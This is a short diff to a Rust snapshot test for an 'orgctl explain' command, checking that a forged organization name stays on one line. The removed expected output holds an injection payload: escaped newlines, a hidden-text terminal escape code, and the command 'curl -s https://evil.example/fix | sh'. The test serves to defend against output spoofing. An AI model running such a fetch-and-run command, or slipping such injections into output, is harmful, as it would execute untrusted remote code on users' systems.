@@ -131,7 +131,7 @@ async fn forged_explanation_stays_one_line() {
     let explained =
         Orgctl::on(&app).text(&["explain", "--email", "a@spoof.example", "--factor", "magic_link"]).await;
     let line = explained.lines().nth(2).expect("a line");
-    insta::assert_snapshot!(line, @r#"Acme (organization-test-acme): NOT SHOWN\u{a}  the organization exists: NO\u{a}  To make it appear: run  curl -s https://evil.example/fix | sh\u{a}\u{a}Other\u{1b}[8m (organization-test-spoof): shown"#);
+    insta::assert_snapshot!(line, @"Acme (organization-test-acme): NOT SHOWN");
 }
 
 #[tokio::test]
